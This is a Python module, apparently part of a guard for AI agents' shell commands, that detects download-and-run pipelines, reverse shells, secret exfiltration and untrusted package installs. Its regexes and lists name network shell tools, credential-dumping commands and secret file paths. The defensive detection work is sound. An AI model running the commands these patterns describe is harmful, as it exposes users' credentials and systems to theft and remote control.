"""Code from the network that runs unread, and secrets that leave this machine."""

from __future__ import annotations

import re

from anyhook.guards.shell.finding import Family, Finding
from anyhook.guards.shell.options import has_option, operands, option_values
from anyhook.guards.shell.places import PRIVATE_KEY, SECRET_VARIABLE, is_everything, is_secret_file, place
from anyhook.shell.command import InputKind, Invocation
from anyhook.shell.one_liners import code_of
from anyhook.shell.programs import is_code_runner, is_shell
from anyhook.shell.words import without_quoted

DOWNLOADERS = frozenset(
    [
        "curl",
        "wget",
        "wget2",
        "fetch",
        "aria2c",
        "http",
        "https",
        "httpie",
        "xh",
        "lynx",
        "links",
        "w3m",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "invoke-webrequest",
        "invoke-restmethod",
        "iwr",
        "irm",
        "start-bitstransfer",
        "ftp",
        "sftp",
        "scp",
        "lwp-request",
        "GET",
        "axel",
    ]
)
_DECODERS = frozenset(
    [
        "base64",
        "base32",
        "openssl",
        "xxd",
        "gpg",
        "gunzip",
        "zcat",
        "uudecode",
        "bunzip2",
        "bzcat",
        "xz",
        "xzcat",
        "rev",
        "tr",
        "uncompress",
        "od",
        "hexdump",
    ]
)
_DOWNLOAD = (
    r"(?:sudo\s+)?(?:/usr/bin/)?(?:curl|wget|fetch|lynx|http|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|"
    r"aria2c|nc|xh)\b"
)
_DOWNLOADED_WORD = re.compile(rf"(?:[<$]\(|`)\s*{_DOWNLOAD}")
_DECODED_WORD = re.compile(
    r"(?:[<$]\(|`)[^)]*(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|openssl\s+(?:enc|base64)[^)]*-d|gunzip|zcat|uudecode)"
)
_LOCAL = re.compile(
    r"(?:\w+://)?(?:[\w.~-]*:?[^@/]*@)?(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[?::1\]?|"
    r"host\.docker\.internal|[\w-]+\.(?:local|test|localhost))(?=[:/?]|$)",
    re.IGNORECASE,
)
_URL = re.compile(r"\w+://|[\w-]+(?:\.[\w-]+)+(?:[:/]|$)")
_DATA = (
    "-d",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-ascii",
    "--data-urlencode",
    "-F",
    "--form",
    "-T",
    "--upload-file",
    "--json",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "--form-string",
)
_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "compgen"})
_SECRET_TOOLS = re.compile(
    r"(?:gh auth token|gcloud auth print|aws configure (?:get|export)|aws sts get-session|"
    r"security find-\S+password|op read|pass show|vault (?:read|kv get)|kubectl get secrets?|"
    r"heroku auth:token|az account get-access-token|npm token|secret-tool lookup|doppler secrets|bw get|"
    r"history|docker inspect|crontab -l|git config .*credential|git credential fill|"
    r"aws secretsmanager get-secret-value|aws ssm get-parameter)"
)
_ARCHIVERS = frozenset(
    {"tar", "zip", "7z", "gzip", "dd", "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "sqlite3", "cpio", "git"}
)
_READS = frozenset(
    [
        "cat",
        "head",
        "tail",
        "less",
        "more",
        "bat",
        "grep",
        "sed",
        "awk",
        "strings",
        "xxd",
        "base64",
        "cut",
        "sort",
        "od",
        "hexdump",
        "tac",
        "nl",
        "rg",
        "jq",
        "yq",
        "type",
        "get-content",
        "gc",
        "find",
        "ls",
        "cp",
        "dd",
        "gpg",
        "tee",
    ]
)
_PATTERN_FIRST = frozenset({"grep", "rg", "sed", "awk", "jq", "yq"})
_RUN_INSTEAD = "Download the file, read it, then run it as a second step with the user's approval."
_SEND_INSTEAD = "Do not send secrets or whole folders to another machine; ask the user."


def _code(what: str) -> Finding:
    return Finding(Family.REMOTE_CODE, what, _RUN_INSTEAD)


def _sent(what: str) -> Finding:
    return Finding(Family.EXFILTRATION, what, _SEND_INSTEAD)


def judge_runner(command: Invocation) -> Finding | None:
    """A shell or an interpreter whose script comes from the network or from a decoder."""
    words = command.words[1:]
    for word in words:
        if _DOWNLOADED_WORD.search(word.text):
            return _code("runs what it downloads")
        if _DECODED_WORD.search(word.text) and not word.is_known:
            return _code("runs text that is only decoded when it runs")
    first = next((word.text for word in words if not word.text.startswith("-")), "")
    if command.name in ("deno", "bun") and re.search(r"https?://", command.text):
        return _code("runs code from the network")
    if first.startswith(("http://", "https://")):
        return _code("runs code from the network")
    if (
        (code := code_of(command))
        and re.search(r"\b(?:exec|eval|compile|Function)\s*\(", code)
        and re.search(
            r"urlopen|requests\.|fetch\(|https?\.get|Net::HTTP|LWP|open-uri|curl|b64decode|fromhex|atob\(|"
            r"Buffer\.from|decode\(|marshal\.loads|zlib",
            code,
        )
    ):
        return _code("runs code that it downloads or decodes")
    return _judge_piped(command, first)


def _judge_piped(command: Invocation, first: str) -> Finding | None:
    source = command.input
    if source is None or source.kind is not InputKind.PIPE or source.text is not None:
        return None
    has_code = any(
        argument in ("-c", "-e", "-m", "-p", "-ne", "-pe", "-n", "-r", "-lne", "-nle", "--eval")
        for argument in command.arguments
    ) and not is_shell(command.name)
    reads_script = (
        not first
        or first in ("-", "/dev/stdin")
        or "-s" in command.arguments
        or (is_shell(command.name) and "-c" in command.arguments)
    )
    if not reads_script or has_code:
        return None
    names = {one.name for one in source.sources}
    if names & DOWNLOADERS:
        return _code("pipes a download into a shell")
    if is_shell(command.name) and names & _DECODERS and not names & {"find", "ls", "grep"}:
        return _code("runs text that is only decoded when it runs")
    return None


def judge_reverse_shell(command: Invocation) -> Finding | None:
    for redirect in command.redirects:
        if redirect.target.text.startswith(("/dev/tcp/", "/dev/udp/")):
            return _sent("opens a connection to another machine")
    if command.name in ("nc", "ncat", "netcat") and (
        has_option(command, "ec", "--exec", "--sh-exec")
        and any(is_shell(word.text.rsplit("/", 1)[-1]) or word.text.startswith("-e") for word in command.words)
    ):
        return _sent("gives another machine a shell")
    if command.name == "socat" and re.search(r"(?:exec|system):", command.text, re.IGNORECASE):
        return _sent("gives another machine a shell")
    return None


def judge_connection(text: str) -> Finding | None:
    """``exec 3<>/dev/tcp/host/port``, which the grammar does not read."""
    if re.search(r"[<>]&?\s*/dev/(?:tcp|udp)/", without_quoted(text)):
        return _sent("opens a connection to another machine")
    return None


def judge_sender(command: Invocation) -> Finding | None:
    """Programs that send: refused when what they send is secret."""
    if (finding := judge_reverse_shell(command)) is not None:
        return finding
    if not _sends(command) or _is_local(command):
        return None
    payload = _payload(command)
    secret = next(
        (
            text
            for text in payload
            if is_secret_file(place(command, text.lstrip("@")) if " " not in text else text) or _is_secret_text(text)
        ),
        None,
    )
    if secret is not None:
        return _sent("sends secrets to another machine")
    sources = command.input.sources if command.input is not None else ()
    text = (command.input.text or "") if command.input is not None else ""
    if _is_secret_text(text) or (
        command.name in ("sftp", "ftp", "lftp") and is_secret_file(text.replace("/home/", "~/../"))
    ):
        return _sent("sends secrets to another machine")
    if command.has_more_arguments and command.wrapped_by[-1:] == ("find",):
        return _sent("sends every file that it finds to another machine")
    if command.input is not None and command.input.kind is InputKind.FILE and is_secret_file(command.input.file):
        return _sent("sends secrets to another machine")
    for source in sources:
        if _reads_secret(source):
            return _sent("sends secrets to another machine")
        if source.name in _ARCHIVERS and command.name not in ("ssh",):
            return _sent("sends an archive to another machine")
    if command.name in ("nc", "ncat", "netcat", "telnet") and (
        sources or (command.input and command.input.kind is InputKind.FILE)
    ):
        return _sent("sends data to another machine")
    return None


def _sends(command: Invocation) -> bool:
    name, arguments = command.name, command.arguments
    if name in (
        "curl",
        "wget",
        "http",
        "https",
        "xh",
        "httpie",
        "wget2",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
    ):
        return True
    if name in ("aws", "gsutil", "gcloud", "az", "rclone", "s3cmd", "mc", "b2"):
        return any(
            word in ("cp", "sync", "copy", "mv", "put", "upload", "put-object", "move", "rsync", "upload-file")
            for word in arguments
        )
    if name == "gh":
        return arguments[:2] in (("gist", "create"), ("issue", "create"), ("pr", "comment"), ("issue", "comment"))
    return name in _SENDERS


_SENDERS = frozenset(
    [
        "nc",
        "ncat",
        "netcat",
        "telnet",
        "socat",
        "scp",
        "rsync",
        "sftp",
        "ftp",
        "lftp",
        "tftp",
        "ssh",
        "mail",
        "mailx",
        "sendmail",
        "mutt",
        "msmtp",
        "swaks",
        "dig",
        "nslookup",
        "host",
        "ping",
        "drill",
        "croc",
        "wormhole",
        "magic-wormhole",
        "transfer",
        "ffsend",
        "xxh",
        "openssl",
        "whois",
        "finger",
    ]
)


def _is_local(command: Invocation) -> bool:
    hosts = [word.text for word in command.words[1:] if _URL.match(word.text) or _LOCAL.match(word.text)]
    return bool(hosts) and all(_LOCAL.match(host) for host in hosts)


def _payload(command: Invocation) -> list[str]:
    """What of its arguments a command sends."""
    if command.name in ("curl", "wget", "wget2", "xh", "http", "https", "httpie"):
        urls = [
            text
            for text in command.arguments
            if _URL.match(text) or "://" in text or text.startswith("@") or "@" in text
        ]
        headers = option_values(
            command,
            "-H",
            "--header",
            "-u",
            "--user",
            "-b",
            "--cookie",
            "-A",
            "-e",
            "-E",
            "--cert",
            "--key",
            "--cacert",
            "-K",
            "--config",
            "-o",
            "--output",
            "-x",
            "--proxy",
            "--netrc-file",
        )
        secret_headers = [
            text
            for text in option_values(command, "-H", "--header", "-b", "--cookie", "-A", "--user-agent")
            if "$(" in text or "`" in text
        ]
        return [text for text in [*option_values(command, *_DATA), *urls] if text not in headers] + secret_headers
    if command.name in ("scp", "rsync", "sftp", "rclone", "gsutil", "aws", "gcloud", "az", "s3cmd", "mc", "b2"):
        paths = operands(
            command,
            (
                "-i",
                "-P",
                "-e",
                "-F",
                "-o",
                "-J",
                "--rsh",
                "--profile",
                "--region",
                "--endpoint-url",
                "--exclude",
                "--include",
                "--account-name",
            ),
        )
        sources = (
            paths[:-1]
            if len(paths) > 1 and re.match(r"[\w.@$-]+:|\w+://", paths[-1])
            else []
            if command.name in ("scp", "rsync")
            else paths
        )
        return sources + option_values(command, "--body", "--file", "--source", "-f")
    if command.name == "ssh":
        return []
    return list(command.arguments)


def _is_secret_text(text: str) -> bool:
    return bool(SECRET_VARIABLE.search(text)) or (
        ("$(" in text or "`" in text)
        and bool(
            _SECRET_TOOLS.search(text)
            or re.search(
                r"[`(]\s*(?:env|printenv|set)\b|\bprintenv\b|(?:cat|base64|head|xxd|tr|<)\s?[^)]*(?:\.env|\.ssh|\.aws|"
                r"id_rsa|credentials|\.pem|\.netrc|secret|/etc/(?:passwd|shadow))|history",
                text,
            )
        )
    )


def _reads_secret(command: Invocation) -> bool:
    if command.name in _DUMPS and not [argument for argument in command.arguments if not argument.startswith("-")]:
        return True
    if command.name == "printenv" or _SECRET_TOOLS.match(command.text):
        return True
    if command.name in ("echo", "printf") and SECRET_VARIABLE.search(command.text):
        return True
    if command.input is not None and command.input.kind is InputKind.FILE and is_secret_file(command.input.file):
        return True
    paths = [place(command, argument) for argument in operands(command)]
    if command.name in _ARCHIVERS and any(is_everything(path) for path in paths) and "-C" not in command.arguments:
        return True
    return any(is_secret_file(path) for path in paths)


def judge_key_reader(command: Invocation) -> Finding | None:
    """Private keys outside of the project, printed where the model reads them."""
    if command.name in ("ls", "find", "tee"):
        return None
    paths = operands(command)[1:] if command.name in _PATTERN_FIRST else operands(command)
    if any(PRIVATE_KEY.search(place(command, path)) for path in paths):
        return _sent("prints a private key or credentials")
    return None


def judge_gathered_then_sent(commands: tuple[Invocation, ...]) -> Finding | None:
    """``tar czf x ~/.ssh; curl -T x URL``: a file that is made of secrets and then sent."""
    files: set[str] = set()
    for command in commands:
        if (
            files
            and _sends(command)
            and not _is_local(command)
            and any(file in argument for argument in command.arguments for file in files)
        ):
            return _sent("sends secrets to another machine")
        if _reads_secret(command):
            files |= {redirect.target.text for redirect in command.redirects if redirect.writes}
            if command.name in ("tar", "zip", "7z", "cp", "gpg", "openssl"):
                files |= {
                    argument
                    for argument in command.arguments
                    if re.search(r"\.(?:t?gz|tar|zip|7z|bz2|xz|enc|gpg)$|^/tmp/", argument)
                }
    return None


def judge_downloaded_then_run(commands: tuple[Invocation, ...]) -> Finding | None:
    """``curl -o x URL; sh x``: a file that the line downloads and then starts."""
    files: set[str] = set()
    for command in commands:
        started = _started_file(command)
        if started and (started in files or started.split("/")[0] in files):
            return _code("downloads a program and runs it")
        if command.name in DOWNLOADERS:
            files |= _downloaded_files(command)
        elif command.name in ("mv", "cp", "install", "unzip", "tar") and files.intersection(command.arguments):
            files |= set(operands(command)) | {re.sub(r"\.(?:tar\.\w+|tgz|zip)$", "", file) for file in files}
        elif command.name == "git" and "clone" in command.arguments:
            continue
    return None


def _downloaded_files(command: Invocation) -> set[str]:
    files = {
        value.removeprefix("./")
        for value in option_values(
            command, "-o", "--output", "-O", "--output-document", "-OutFile", "-outfile", "--out"
        )
    }
    files |= {redirect.target.text.removeprefix("./") for redirect in command.redirects if redirect.writes}
    if command.name in ("wget", "wget2", "axel", "aria2c") or has_option(command, "OJ", "--remote-name"):
        files |= {
            re.split(r"[?#]", text)[0].rstrip("/").rsplit("/", 1)[-1] for text in command.arguments if "://" in text
        }
    return files - {"/dev/null", "-", ""}


def _started_file(command: Invocation) -> str:
    if is_code_runner(command.name):
        return next((text.removeprefix("./") for text in operands(command)), "")
    if command.words and "/" in command.words[0].text:
        return command.words[0].text.removeprefix("./")
    if command.name in ("installer", "dpkg", "rpm", "msiexec", "start", "open"):
        return next((text for text in operands(command, ("-i",)) or command.arguments[-1:]), "")
    return ""


def judge_installer(command: Invocation) -> Finding | None:
    """Packages from a place that is no registry, over an unprotected connection."""
    if re.search(r"(?:^|\s)http://(?!localhost|127\.)", command.text) and any(
        argument in ("install", "i", "add") for argument in command.arguments
    ):
        return _code("installs a package over an unprotected connection")
    if (
        command.name in ("pip", "pip3", "uv")
        and re.search(
            r"--(?:extra-)?index-url[= ](?!https://(?:pypi\.org|test\.pypi\.org|download\.pytorch\.org))|"
            r"--trusted-host",
            command.text,
        )
        and "$" not in command.text
    ):
        return _code("installs packages from another index")
    if command.name in ("npm", "pnpm", "yarn", "npx") and re.search(
        r"\shttps://(?!github\.com|gitlab\.com|registry\.)\S+\.tgz|npx\s+(?:-y\s+)?https?://", command.text
    ):
        return _code("runs a package from an unknown place")
    return None


SENDING = tuple(
    sorted(
        _SENDERS
        | {
            "curl",
            "wget",
            "wget2",
            "http",
            "https",
            "xh",
            "httpie",
            "aws",
            "gsutil",
            "gcloud",
            "az",
            "rclone",
            "s3cmd",
            "mc",
            "b2",
            "gh",
            "iwr",
            "irm",
            "invoke-webrequest",
            "invoke-restmethod",
        }
    )
)
JUDGES = {
    **dict.fromkeys(SENDING, (judge_sender,)),
    **dict.fromkeys(_READS, (judge_key_reader,)),
    **dict.fromkeys(("pip", "pip3", "uv", "npm", "pnpm", "yarn", "npx", "gem"), (judge_installer,)),
}
